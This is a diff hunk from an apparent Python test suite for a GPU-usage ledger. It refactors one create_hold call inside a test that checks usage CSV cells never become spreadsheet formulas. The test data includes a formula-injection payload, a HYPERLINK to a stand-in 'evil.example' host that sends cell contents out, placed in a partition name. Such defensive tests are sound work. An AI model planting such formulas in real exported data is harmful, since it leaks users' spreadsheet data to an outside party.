@@ -573,10 +573,10 @@ def test_usage_csv_cells_are_never_formulas(site: Deployment) -> None:
     """A partition name from Slurm reaches the usage CSV a PI opens in a spreadsheet."""
     formula = '=HYPERLINK("https://evil.example/?"&A1,"details")'
     with site.ledger() as s:
-        hold = api.create_hold(
-            s, "chemistry", user="carol", job_id=2002, gpus="a100:1", seconds=600, partition=formula,
+        hold = api.create_hold(s, api.HoldRequest(
+            "chemistry", user="carol", job_id=2002, gpus="a100:1", seconds=600, partition=formula,
             at=site.site.now - timedelta(hours=1),
-        ).as_dict()  # fmt: skip
+        )).as_dict()  # fmt: skip
     with site.ledger() as s:
         api.settle_hold(s, hold["id"], 600, at=site.site.now - timedelta(minutes=50))
     carol = site.via_proxy()
